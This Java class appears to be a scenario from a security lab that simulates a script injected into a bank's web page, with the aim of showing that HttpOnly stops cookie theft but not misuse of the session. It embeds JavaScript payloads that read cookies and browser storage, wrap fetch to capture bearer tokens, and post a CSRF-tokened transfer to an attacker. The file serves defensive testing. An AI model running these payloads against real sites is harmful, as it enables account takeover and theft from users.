package authlab.scenario.steal;

import static authlab.client.Carrier.JWT_BEARER;
import static authlab.client.Carrier.JWT_COOKIE;
import static authlab.client.Carrier.SESSION;
import static authlab.scenario.Defence.HTTP_ONLY;
import static authlab.scenario.Expectation.exposed;
import static authlab.scenario.Expectation.keptBack;

import authlab.client.Answer;
import authlab.client.Credentials;
import authlab.scenario.Attempt;
import authlab.scenario.Customer;
import authlab.scenario.Facts;
import authlab.scenario.Lab;
import authlab.scenario.Scenario;
import authlab.scenario.Tuning;
import authlab.scenario.browser.Browser;
import authlab.scenario.browser.Tab;
import authlab.scenario.browser.Visitor;

/**
 * A script has got into the bank's page, past every policy, and looks for a credential to take away.
 *
 * <p>A half-fix that does not help: to think that {@code HttpOnly} ends it. The script cannot take the credential away, but
 * while the page is open it does with it what it likes.
 */
public final class StealByScript implements Scenario {

    private static final String KEPT_FOR_SCRIPTS =
            "() => [document.cookie, ...Object.values(localStorage), ...Object.values(sessionStorage)].join(' ')";

    /** Stands in the way of the page's own requests, from which a script can learn what no variable tells it. */
    private static final String LISTEN = "() => { const real = window.fetch; window.taken = new Promise((resolve) => {"
            + " window.fetch = (path, options) => { resolve(options.headers.Authorization);"
            + " return real(path, options); }; }); }";

    /** What a script may do for the victim who is logged in, if it cannot be her elsewhere. */
    private static final String PAY = "async (to) => {"
            + " const { csrfToken } = await (await fetch('/auth/csrf')).json();"
            + " const paid = await fetch('/api/transfers', { method: 'POST', body: JSON.stringify({ to, amount: 1 }),"
            + " headers: { 'Content-Type': 'application/json', 'X-CSRF-Token': csrfToken } });"
            + " await paid.text(); }";

    @Override
    public Facts facts() {
        return Facts.of("have a script in the bank's page take the credential away")
                .because("no script can read the cookie that holds it; it can use it, while the page is open")
                .on(SESSION, keptBack("HttpOnly"))
                .on(
                        JWT_BEARER,
                        exposed("what a page holds its scripts can take, from memory as from a store; a token ends in"
                                + " minutes, a refresh token that two use ends the login, and the page's policy keeps"
                                + " scripts out"))
                .on(JWT_COOKIE, keptBack("HttpOnly"))
                .bitesWithout(HTTP_ONLY)
                .in(Tuning.BROWSER)
                .standards("ASVS V3.3.4", "CWE-1004", "CWE-522", "OWASP A03:2021");
    }

    @Override
    public Attempt attack(Lab lab) {
        lab.step("Given a victim who is logged in at the bank, in whose page a script runs that is not the bank's,");
        Browser browser = lab.browser();
        Customer attacker = lab.newCustomer();
        Tab tab = Visitor.logIn(browser, lab.carrier(), lab.newCustomer().person());
        tab.picture("The page in which the script runs: nothing is to be seen of it");
        return lab.carrier().usesCookies() ? fromTheCookie(lab, browser, tab, attacker) : fromMemory(lab, tab);
    }

    private static Attempt fromTheCookie(Lab lab, Browser browser, Tab tab, Customer attacker) {
        String found = tab.run(KEPT_FOR_SCRIPTS).toString();

        lab.step("which can act for her while the page is open, with or without HttpOnly: here it pays the attacker,");
        Answer paid = tab.answerTo("POST", "/api/transfers", () -> tab.run(PAY, attacker.username()));
        Lab.require(201, paid);

        lab.step("when it also finds the credential, and that works elsewhere, that is the prize.");
        String name = lab.carrier().accessCookie().orElseThrow();
        String credential = browser.bankCookies().get(name);
        return found.contains(credential)
                ? usedElsewhere(lab, Credentials.none(lab.carrier()).withAccess(credential))
                : Attempt.keptBack("HttpOnly");
    }

    private static Attempt fromMemory(Lab lab, Tab tab) {
        lab.step("and which listens to what the page sends: when what it hears works elsewhere, that is the prize.");
        tab.run(LISTEN);
        tab.click("#reload");
        String header = tab.run("() => window.taken").toString();
        return usedElsewhere(lab, Credentials.none(lab.carrier()).withAccess(header.substring("Bearer ".length())));
    }

    private static Attempt usedElsewhere(Lab lab, Credentials stolen) {
        return Attempt.of(lab.with(stolen).get("/api/me"), "the credential works on the attacker's own machine");
    }
}
